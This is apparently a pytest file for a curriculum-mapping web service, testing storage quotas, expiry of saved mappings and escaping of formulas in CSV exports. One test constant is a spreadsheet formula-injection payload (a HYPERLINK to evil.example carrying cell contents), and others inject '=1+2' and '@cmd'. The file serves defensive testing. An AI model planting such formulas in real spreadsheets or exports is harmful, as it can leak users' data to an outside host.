"""Saved curriculum mappings are bounded and their CSV is safe in a spreadsheet (issue 20, items 3 and 4).

The upload is the hand-written curriculum of tests/test_curriculum.py for major 510209
(人工智能技术应用); one course title is a spreadsheet formula, as an attacker would write it.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path

import pytest

from graph.schools.saved import ClientQuotaExceeded, SavedMappings, StorageFull
from graph.store.embedded import EmbeddedStore

ROOT = Path(__file__).resolve().parents[1]
CURRICULUM = ROOT / "tests" / "data" / "curricula" / "valid" / "ai-trainer-510209.csv"
STD = json.loads(
    (ROOT / "tests" / "data" / "curricula" / "valid" / "ai-trainer-510209.expected.json").read_text(encoding="utf-8")
)["standard"]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"查看")'


def _app(store: EmbeddedStore, tmp_path: Path, **config):  # type: ignore[no-untyped-def]
    from server import create_app

    return create_app({"TESTING": True, "STORE": store, "CURRICULA_DIR": str(tmp_path / "saved"), **config})


def _upload(client, csv_bytes: bytes, **fields):  # type: ignore[no-untyped-def]
    return client.post(
        "/api/curricula",
        data={
            "file": (io.BytesIO(csv_bytes), "plan.csv"),
            "major": "510209",
            "standard": STD,
            "save": "true",
            **fields,
        },
        content_type="multipart/form-data",
    )


def _variant(n: int) -> bytes:
    """The curriculum with one more course, so that each upload is a different mapping."""
    return CURRICULUM.read_bytes().rstrip(b"\n") + f"\nX{n:03d},选修课 {n},16,1,了解人工智能\n".encode()


def test_saved_mapping_is_compact(store: EmbeddedStore, tmp_path: Path) -> None:
    client = _app(store, tmp_path).test_client()
    body = CURRICULUM.read_bytes()
    r = _upload(client, body)
    assert r.status_code == 201, r.get_json()
    sid = r.get_json()["saved"]["id"]
    files = [p for p in (tmp_path / "saved").iterdir() if not p.name.startswith(".")]
    assert [p.name for p in files] == [f"{sid}.json.gz"]
    mapping_json = len(json.dumps(r.get_json(), ensure_ascii=False, indent=2).encode())
    # one compressed file a small fraction of the mapping it holds (was: ~1 MB of folders per upload)
    assert files[0].stat().st_size < mapping_json / 5
    doc = json.loads(gzip.decompress(files[0].read_bytes()))
    assert doc["csv"] == body.decode() and doc["request"]["major"] == "510209"
    assert "1.2.3.4" not in files[0].read_bytes().decode("latin-1")
    again = client.get(f"/api/curricula/{sid}").get_json()
    assert again["summary"] == r.get_json()["summary"]
    assert _upload(client, body).get_json()["saved"]["id"] == sid  # the same request saves nothing new
    assert len([p for p in (tmp_path / "saved").iterdir() if not p.name.startswith(".")]) == 1


def test_per_client_quota_answers_429_with_retry_after(store: EmbeddedStore, tmp_path: Path) -> None:
    client = _app(store, tmp_path, CURRICULA_CLIENT_BYTES=60_000, CURRICULA_CLIENT_WINDOW=3600).test_client()
    statuses = [_upload(client, _variant(i)).status_code for i in range(12)]
    assert statuses[0] == 201 and statuses[-1] == 429, statuses
    first_refusal = statuses.index(429)
    assert set(statuses[:first_refusal]) == {201} and set(statuses[first_refusal:]) == {429}
    r = _upload(client, _variant(99))
    assert 0 < int(r.headers["Retry-After"]) <= 3600
    assert "60,000 bytes" in r.get_json()["error"]
    # another client still may save
    other = client.post(
        "/api/curricula",
        data={"file": (io.BytesIO(_variant(50)), "plan.csv"), "major": "510209", "standard": STD, "save": "true"},
        content_type="multipart/form-data",
        environ_base={"REMOTE_ADDR": "10.9.8.7"},
    )
    assert other.status_code == 201
    # mapping without saving is never refused
    r = client.post(f"/api/curricula?major=510209&standard={STD}", data=_variant(98), content_type="text/csv")
    assert r.status_code == 200


def test_total_quota_answers_507(store: EmbeddedStore, tmp_path: Path) -> None:
    client = _app(store, tmp_path, CURRICULA_TOTAL_BYTES=30_000).test_client()
    statuses = []
    for i in range(8):
        statuses.append(
            client.post(
                "/api/curricula",
                data={"file": (io.BytesIO(_variant(i)), "p.csv"), "major": "510209", "standard": STD, "save": "true"},
                content_type="multipart/form-data",
                environ_base={"REMOTE_ADDR": f"10.0.0.{i}"},  # many clients, one total
            ).status_code
        )
    assert statuses[0] == 201 and statuses[-1] == 507, statuses
    total = sum(p.stat().st_size for p in (tmp_path / "saved").glob("*.json.gz"))
    assert total <= 30_000


def test_expired_mappings_are_removed(tmp_path: Path) -> None:
    box = SavedMappings(tmp_path, client_bytes=10**6, window=3600, total_bytes=10**6, ttl=100)
    old = box.save({"major": "510209"}, b"a", {"n": 1}, client="1.1.1.1", now=1000.0)
    assert box.load(old, now=1050.0) == {
        "saved_at": 1000.0,
        "client": box._client_key("1.1.1.1"),
        "request": {"major": "510209"},
        "csv": "a",
        "mapping": {"n": 1},
    }
    assert box.load(old, now=1101.0) is None
    box.save({"major": "510209"}, b"b", {"n": 2}, client="1.1.1.1", now=1200.0)  # a save sweeps
    assert not box.path(old).exists()


def test_quota_errors_carry_when_to_retry(tmp_path: Path) -> None:
    box = SavedMappings(tmp_path, client_bytes=250, window=600, total_bytes=10**6, ttl=10**6)
    box.save({"k": 1}, b"x" * 50, {}, client="c", now=0.0)
    box.save({"k": 2}, b"y" * 50, {}, client="c", now=100.0)
    with pytest.raises(ClientQuotaExceeded) as caught:
        box.save({"k": 3}, b"z" * 50, {}, client="c", now=200.0)
    assert caught.value.retry_after == 400  # the first save leaves the 600 s window at t=600
    box2 = SavedMappings(tmp_path / "b", client_bytes=10**6, window=600, total_bytes=150, ttl=1000)
    box2.save({"k": 1}, b"x", {}, client="c", now=0.0)
    with pytest.raises(StorageFull):
        for i in range(10):
            box2.save({"k": i + 2}, b"x", {}, client=f"c{i}", now=1.0)


# ---------------------------------------------------------------- item 4: CSV formula injection


def test_saved_csv_export_neutralises_formulas(store: EmbeddedStore, tmp_path: Path) -> None:
    client = _app(store, tmp_path).test_client()
    quoted = FORMULA.replace('"', '""')
    text = CURRICULUM.read_text(encoding="utf-8").replace("AI101,数据采集与处理,", f'AI101,"{quoted}",', 1)
    assert FORMULA[:10] not in CURRICULUM.read_text(encoding="utf-8") and quoted in text
    r = _upload(client, text.encode())
    assert r.status_code == 201, r.get_json()
    sid = r.get_json()["saved"]["id"]
    export = client.get(f"/api/curricula/{sid}?format=csv")
    assert export.status_code == 200 and export.mimetype == "text/csv"
    cells = [cell for row in csv.reader(io.StringIO(export.get_data(as_text=True))) for cell in row]
    assert cells, "the export has cells"
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [c for c in dangerous if c.lstrip("+-").replace(".", "", 1).isdigit()]
    assert "'" + FORMULA in cells  # the course title, shown as text


def test_sparql_csv_results_neutralise_formulas(client) -> None:  # type: ignore[no-untyped-def]
    q = 'SELECT ?a ?b ?c ?n WHERE { BIND("=1+2" AS ?a) BIND("@cmd" AS ?b) BIND("-2+3" AS ?c) BIND(-5 AS ?n) }'
    r = client.get("/sparql", query_string={"query": q}, headers={"Accept": "text/csv"})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True))))
    assert rows == [["a", "b", "c", "n"], ["'=1+2", "'@cmd", "'-2+3", "-5"]]


def test_every_csv_writer_goes_through_the_safe_helper() -> None:
    """No module writes CSV with the bare csv.writer: they use graph.core.tabular.csv_writer."""
    offenders = []
    for folder in ("graph", "server"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "tabular.py" or "importers" in path.parts:
                continue
            text = path.read_text(encoding="utf-8")
            if "csv.writer(" in text or "csv.DictWriter(" in text:
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
